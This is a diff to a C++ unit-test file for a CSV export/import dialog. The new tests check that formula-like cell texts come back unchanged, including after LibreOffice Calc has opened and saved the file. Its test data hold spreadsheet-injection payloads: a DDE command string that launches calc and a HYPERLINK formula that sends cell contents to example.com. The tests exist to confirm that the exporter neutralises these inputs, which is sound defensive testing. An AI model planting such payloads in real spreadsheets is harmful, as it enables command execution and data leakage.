@@ -1,6 +1,6 @@
-// The items file through the items dialog: 导出 and 导入 giving the same items back, a failed
-// export leaving the earlier file whole, the file as spreadsheets save it, repeats and malformed
-// records, and the real save chooser.
+// The items file through the items dialog: 导出 and 导入 giving the same items back, also after a
+// real spreadsheet has opened and saved the file, a failed export leaving the earlier file whole,
+// the file as spreadsheets save it, repeats and malformed records, and the real save chooser.
 #include "items/itemsdlg.h"
 
 #include "appstate/globals.h"
@@ -11,7 +11,9 @@
 #include "store/statements.h"
 #include "tests/items/items_fixture.h"
 #include "tests/support/immutable_file.h"
+#include "tests/support/pump.h"
 
+#include <algorithm>
 #include <gtest/gtest.h>
 
 using namespace items_testing;
@@ -79,7 +81,9 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
               {L"it's", L"只有换行\n第二行", 5, L"2026-02-10 14:02:33"},
               {L"", L"问候 😀 𠮷 Zoë ß", 0, std::nullopt},
               {L"a,b", L"\"", 0, std::nullopt},
-              {L" 空格 ", L"  ", 0, std::nullopt}});
+              {L" 空格 ", L"  ", 0, std::nullopt},
+              {L"'=x", L"=\"x\"&CHAR(10)", 0, std::nullopt},
+              {L"110101199003077777", L"-2+3\r\n第二行", 1, std::nullopt}});
     const std::vector<StoredItem> before = Stored();
     std::vector<StoredItem> back = before;
     back[1].title = L"";  // a label never given shows empty, and comes back so
@@ -91,18 +95,21 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
     std::vector<std::function<bool()>> steps;
     Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
     RunDialog(exporting, steps);
-    EXPECT_TRUE(boxes.empty()) << "an export that worked says nothing";
+    EXPECT_EQ(boxes, std::vector<std::wstring>{L"已导出 8 项。"});
     EXPECT_FALSE(exporting.m_isDataChanged) << "an export changes nothing the main list shows";
-    EXPECT_EQ(exporting.LastExport().exportedItems, 6);
-    // In the list's order, newest first; quoted only where a field needs it.
-    EXPECT_EQ(testing_support::FileBytes(file),
-              std::string("\xEF\xBB\xBF") + kHeader +
-                  u8" 空格 ,  ,0,\r\n"
-                  u8"\"a,b\",\"\"\"\",0,\r\n"
-                  u8",问候 😀 𠮷 Zoë ß,0,\r\n"
-                  u8"it's,\"只有换行\n第二行\",5,2026-02-10 14:02:33\r\n"
-                  u8",\"两行\r\n第二行\",5,2026-02-10 14:02:33\r\n"
-                  u8"公司地址,\"北京市海淀区, \"\"中关村\"\" 5 号\",9,2026-02-09 09:15:00\r\n");
+    // In the list's order, newest first; quoted only where a field needs it; what a spreadsheet
+    // would retype as the formula that shows it.
+    EXPECT_EQ(
+        testing_support::FileBytes(file),
+        std::string("\xEF\xBB\xBF") + kHeader +
+            u8"\"=\"\"110101199003077777\"\"\",\"=\"\"-2+3\"\"&CHAR(13)&CHAR(10)&\"\"第二行\"\"\",1,\r\n"
+            u8"\"=\"\"'=x\"\"\",\"=\"\"=\"\"\"\"x\"\"\"\"&CHAR(10)\"\"\",0,\r\n"
+            u8" 空格 ,  ,0,\r\n"
+            u8"\"a,b\",\"\"\"\",0,\r\n"
+            u8",问候 😀 𠮷 Zoë ß,0,\r\n"
+            u8"it's,\"只有换行\n第二行\",5,2026-02-10 14:02:33\r\n"
+            u8",\"两行\r\n第二行\",5,2026-02-10 14:02:33\r\n"
+            u8"公司地址,\"=\"\"北京市海淀区, \"\"\"\"中关村\"\"\"\" 5 号\"\"\",9,2026-02-09 09:15:00\r\n");
     EXPECT_EQ(before, Stored()) << "the table is only read";
 
     UseItems({});
@@ -117,12 +124,63 @@ TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameO
     });
     Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 2);
     RunDialog(importing, steps);
-    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导入 6 项，跳过重复的 0 项。",
-                                                L"已导入 0 项，跳过重复的 6 项。"}));
+    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 8 项。", L"已导入 8 项，跳过重复的 0 项。",
+                                                L"已导入 0 项，跳过重复的 8 项。"}));
     EXPECT_EQ(Stored(), back) << "labels, contents, counts and times, even the ids";
     EXPECT_EQ(HeatOrder(), heatBefore);
     EXPECT_TRUE(importing.m_isDataChanged);
-    EXPECT_EQ(listed, (std::vector<int>{6, 5, 4, 3, 2, 1})) << "the new rows in the file's order";
+    EXPECT_EQ(listed, (std::vector<int>{8, 7, 6, 5, 4, 3, 2, 1})) << "the new rows in the file's order";
+}
+
+// Texts a spreadsheet retypes or runs, exported, opened and saved as CSV by LibreOffice Calc in a
+// Chinese locale (the host's program, which Wine starts like any other), and imported again.
+TEST_F(ItemsFileTest, ExportedTextsComeBackWhenASpreadsheetHasOpenedAndSavedTheFile)
+{
+    ASSERT_NE(::GetFileAttributesW(L"Z:\\usr\\bin\\soffice"), INVALID_FILE_ATTRIBUTES)
+        << "LibreOffice Calc (libreoffice-calc-nogui) is not installed";
+    UseItems({{L"编号", L"007", 3, L"2026-02-09 09:15:00"},
+              {L"110101199003077777", L"1/2"},
+              {L"50%", L"2026-02-09"},
+              {L"=1+1", L"-2+3"},
+              {L"'=", L"=HYPERLINK(\"http://example.com/?\"&A1)"},
+              {L"true", L"+cmd|' /C calc'!A0"},
+              {L"@A", L"=两行\r\n第二行"},
+              {L"１２３", L"1e5"},
+              {L"it's", L"问候 😀 𠮷, \"引号\""}});
+    const std::vector<StoredItem> before = Stored();
+    const std::wstring folder = PathInFolder(L"");
+    ASSERT_EQ(folder.compare(0, 3, L"Z:\\"), 0) << "the host's root is Wine's Z: drive";
+    std::string dir = WideToUtf8(folder.substr(2));
+    std::replace(dir.begin(), dir.end(), '\\', '/');
+    CTestItemsDlg exporting, importing;
+    exporting.exportPaths = {folder + L"items.csv"};
+    importing.paths = {folder + L"saved\\items.csv"};
+    std::vector<std::function<bool()>> steps;
+    Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
+    RunDialog(exporting, steps);
+    // Wine gives no handle to wait on for a host program: the shell leaves a file when it is done.
+    std::wstring command = Utf8ToWide(
+        "Z:\\bin\\sh -c \"cd '" + dir + "' && LANG=zh_CN.UTF-8 LC_ALL=zh_CN.UTF-8 timeout 60 soffice " +
+        "-env:UserInstallation=file://" + dir + "profile --headless --infilter=CSV:44,34,76,1 --convert-to " +
+        "'csv:Text - txt - csv (StarCalc):44,34,76,1' --outdir saved items.csv >soffice.log 2>&1; echo $? "
+        ">ended\"");
+    STARTUPINFOW startup = {};
+    startup.cb = sizeof(startup);
+    PROCESS_INFORMATION started = {};
+    ASSERT_TRUE(::CreateProcessW(nullptr, &command[0], nullptr, nullptr, FALSE, 0, nullptr, nullptr, &startup,
+                                 &started));
+    const CKernelHandle process(started.hProcess), thread(started.hThread);
+    ASSERT_TRUE(testing_support::PumpUntil(
+        [&] { return testing_support::FileBytes(folder + L"ended") != ""; }, 70000));
+    EXPECT_EQ(testing_support::FileBytes(folder + L"ended"), "0\n")
+        << testing_support::FileBytes(folder + L"soffice.log");
+
+    UseItems({});
+    steps.clear();
+    Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 1);
+    RunDialog(importing, steps);
+    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 9 项。", L"已导入 9 项，跳过重复的 0 项。"}));
+    EXPECT_EQ(Stored(), before) << testing_support::FileBytes(importing.paths[0]);
 }
 
 TEST_F(ItemsFileTest, AnExportThatCannotReplaceTheEarlierFileLeavesItWholeAndSaysWhy)
@@ -206,12 +264,22 @@ TEST_F(ItemsFileTest, TheFileAsSpreadsheetsSaveItComesBackRepeatsAreSkippedAndAM
          {{1, L"一", L"x", 1, std::nullopt}},
          L"已导入 1 项，跳过重复的 0 项。第 3 "
          L"行的记录有误（点击次数不是数字），这一行和其后的记录没有导入。"},
-        {"a header alone", {}, header, {}, L"已导入 0 项，跳过重复的 0 项。"},
+        {"a header alone", {}, header, {}, L"文件中没有可导入的内容。"},
+        {"a doubled mark, a column of the user's, a lone CR",
+         {},
+         u8"\uFEFF\uFEFF标签,内容,点击次数,最后复制时间,备注\r\n,\"multi\rline\",3,,note\r\n",
+         {{1, L"", L"multi\rline", 3, std::nullopt}},
+         L"已导入 1 项，跳过重复的 0 项。"},
+        {"columns in another order; files joined, the second header no item",
+         {},
+         u8"内容,标签,最后复制时间,点击次数\r\nx,a,,1\r\n\uFEFF内容,标签,最后复制时间,点击次数\r\ny,b,,2\r\n",
+         {{1, L"b", L"y", 2, std::nullopt}, {2, L"a", L"x", 1, std::nullopt}},
+         L"已导入 2 项，跳过重复的 0 项。"},
         {"a first line that is not the header: a line an item, as ever",
          {},
          u8"标签,内容\r\n\"x\",1\r\n",
          {{1, L"", L"标签,内容", 0, std::nullopt}, {2, L"", L"\"x\",1", 0, std::nullopt}},
-         L""},
+         L"已导入 2 项。"},
     };
     for (const Case& test : cases) {
         SCOPED_TRACE(test.why);
